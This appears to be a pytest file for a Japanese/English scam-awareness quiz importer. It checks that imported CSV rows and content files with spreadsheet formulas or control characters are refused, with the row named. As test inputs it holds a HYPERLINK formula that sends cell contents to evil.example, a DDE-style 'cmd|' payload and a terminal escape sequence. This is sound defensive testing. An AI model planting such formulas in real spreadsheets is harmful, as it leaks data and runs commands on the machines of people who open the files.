"""Imported spreadsheet rows with formulas or control characters are refused, naming the row."""

from pathlib import Path

import pytest

from quizzes.content_safety import is_formula, row_problems
from quizzes.csv_import import ImportError_, import_csv

HEADER = (
    "id,kind,topic,level,techniques,question_ja,question_en,choice_a_ja,choice_a_en,choice_b_ja,choice_b_en,"
    "answer,explanation_ja,explanation_en"
)
GOOD = (
    "cls-010,action,money,シニア,phishing,このSMSが来たら?,You get this SMS. Then?,"
    "リンクを開く,Open the link,公式アプリで確かめる,Check in the official app,b,"
    "＋から始まる番号は国際電話です。,Check in the app."
)
HYPERLINK = '"=HYPERLINK(""http://evil.example/?""&D2&D3&D4,""詳しくはこちら"")"'


def write(tmp_path: Path, rows: list[str]) -> Path:
    path = tmp_path / "shared.csv"
    path.write_text("\n".join([HEADER, *rows]), encoding="utf-8")
    return path


def test_the_audit_s_hyperlink_choice_is_refused_with_its_row(tmp_path: Path) -> None:
    evil = GOOD.replace("cls-010", "cls-011").replace("リンクを開く", HYPERLINK)
    with pytest.raises(ImportError_) as info:
        import_csv(write(tmp_path, [GOOD, evil]), "shared")
    [problem] = info.value.problems
    assert "row 3" in problem and "choice_a_ja" in problem and "formula" in problem


@pytest.mark.parametrize(
    ("cell", "code"), [("注意\x1b[2Jして", "U+001B"), ("ベル\x07", "U+0007"), ("abc\u202edef", "U+202E")]
)
def test_control_and_direction_characters_are_refused(tmp_path: Path, cell: str, code: str) -> None:
    with pytest.raises(ImportError_) as info:
        import_csv(write(tmp_path, [GOOD.replace("Open the link", cell)]), "shared")
    assert any("row 2" in p and "choice_a_en" in p and code in p for p in info.value.problems)


def test_ordinary_writing_that_starts_with_a_sign_is_accepted(tmp_path: Path) -> None:
    multi_line = '"一行目\r\n二行目"'
    rows = [GOOD.replace("Open the link", "+81 numbers are abroad").replace("リンクを開く", multi_line)]
    assert import_csv(write(tmp_path, rows), "shared").count == 1


@pytest.mark.parametrize(
    "text", ["=1+1", "＝SUM(A1)", "@SUM(A1:A3)", "+A1", "-2+3+cmd|' /C calc'!A0", "- HYPERLINK(x)", "\t=x"]
)
def test_formulas(text: str) -> None:
    assert is_formula(text)


@pytest.mark.parametrize(
    "text", ["+81から始まる番号", "-5%の値引き", "＋から始まる", "@ をふくむ住所", "", "  "]
)
def test_not_formulas(text: str) -> None:
    assert not is_formula(text)


def test_extra_cells_without_a_column_are_checked_too() -> None:
    assert row_problems({"id": "x", None: ["ok", "=1+1"]}) == [
        "(extra cell) starts like a spreadsheet formula ('=1+1'); write it without = + - @ in front"
    ]


def test_a_content_file_with_control_characters_is_refused_at_the_item_s_line(tmp_path: Path) -> None:
    from quizzes.loader import BankError, load_bank

    deck = tmp_path / "zz.toml"
    deck.write_text(
        '[deck]\nid = "zz"\ntitle_ja = "テスト"\ntitle_en = "Test"\ndescription_ja = "テスト"\n'
        'description_en = "Test\\u202e"\n\n[[items]]\nid = "zz-001"\nkind = "action"\ntopic = "money"\n'
        'level = "一般"\ntechniques = ["pause"]\nquestion_ja = "どうする?"\nquestion_en = "What now?"\n'
        'answer = "a"\nexplanation_ja = "待ちます。"\nexplanation_en = "Wait."\n'
        '[[items.choices]]\nid = "a"\nja = "待つ\\u001b[2J"\nen = "Wait"\n'
        '[[items.choices]]\nid = "b"\nja = "送る"\nen = "Send"\n',
        encoding="utf-8",
    )
    with pytest.raises(BankError) as info:
        load_bank(extra=[deck])
    problems = sorted(str(p) for p in info.value.problems)
    assert len(problems) == 2, problems
    assert problems[0].endswith(
        ":1: deck.description_en: contains control or text-direction characters (U+202E)"
    )
    assert problems[1].endswith(
        ":9: items[0].choices[0].ja: contains control or text-direction characters (U+001B)"
    )
